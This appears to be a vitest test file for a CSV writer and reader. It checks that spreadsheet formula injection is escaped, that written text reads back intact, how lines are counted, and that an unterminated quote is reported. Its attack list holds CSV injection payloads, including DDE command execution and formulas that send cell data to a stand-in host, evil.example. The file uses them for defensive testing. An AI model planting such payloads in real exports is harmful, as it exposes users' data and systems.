import { describe, expect, test } from "vitest";
import { type Cell, readCsv, writeCsv } from "../../src/lib/csv.ts";
import { fc } from "../support/random.ts";

/** Texts that spreadsheets run or have run, from OWASP's page on CSV injection and later reports. */
const ATTACKS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
  '=WEBSERVICE(CONCATENATE("http://evil.example/",A1))',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-1-1",
  "-(1)",
  "-1e5",
  "+12",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
  "-1,2",
  '="a""b"',
  "--1",
];

const PLAIN = ["12", "-12", "-12.34", "0.00", "Jane", "O'Brien", "a=b", "1+1", "j@example.com", "", " ", "ＡＢ"];

/** Whether a spreadsheet reads a cell as a formula: it starts with one of these and is not a number. */
const runs = (cell: string) => /^[\s]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe("a cell", () => {
  test.each(ATTACKS)("with a formula is escaped: %j", (attack) => {
    const [row] = readCsv(writeCsv([[attack, "x"]])).rows;
    expect(row?.cells).toEqual([`'${attack}`, "x"]);
    expect(runs(row?.cells[0] ?? "")).toBe(false);
  });

  test.each(PLAIN)("with harmless text is unchanged: %j", (text) => {
    expect(readCsv(writeCsv([[text, "x"]])).rows[0]?.cells).toEqual([text, "x"]);
  });

  test.each([
    [1_234, "1234"],
    [-5, "-5"],
    [0.5, "0.5"],
    [null, ""],
  ])("%j is written %s, without quotes", (cell, text) => expect(writeCsv([[cell, "x"]])).toBe(`${text},x\r\n`));
});

test("any text that is written can be read back, and none is a formula", () => {
  const text = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...ATTACKS), fc.string());
  fc.assert(
    fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 8 }), (rows) => {
      // The first cell is never empty, so that no row is empty.
      const written: Cell[][] = rows.map((row) => ["row", ...row]);
      const { rows: read, fault } = readCsv(writeCsv(written));
      expect(fault).toBeNull();
      expect(read.map(({ cells }) => cells.map((cell) => cell.replace(/^'(?=[=+\-@＝＋－＠\t\r\n])/, "")))).toEqual(
        written.map((row) => row.map((cell) => String(cell).replace(/^'(?=[=+\-@＝＋－＠\t\r\n])/, ""))),
      );
      for (const { cells } of read)
        for (const cell of cells) expect(runs(cell) && /^[=+\-@＝＋－＠\t\r\n]/.test(cell)).toBe(false);
    }),
  );
});

test("lines are counted as in an editor, for any delimiter and line breaks", () => {
  expect(readCsv('\uFEFFa;b\n"1\n2";x\n\n3;y\n')).toEqual({
    rows: [
      { line: 1, cells: ["a", "b"] },
      { line: 2, cells: ["1\n2", "x"] },
      { line: 5, cells: ["3", "y"] },
    ],
    fault: null,
  });
  expect(readCsv("a\tb\r\n1\t2\r\n").rows.map(({ line }) => line)).toEqual([1, 2]);
});

test("an unterminated quote is reported", () => {
  expect(readCsv('a,b\n"1,2\n').fault).not.toBeNull();
});
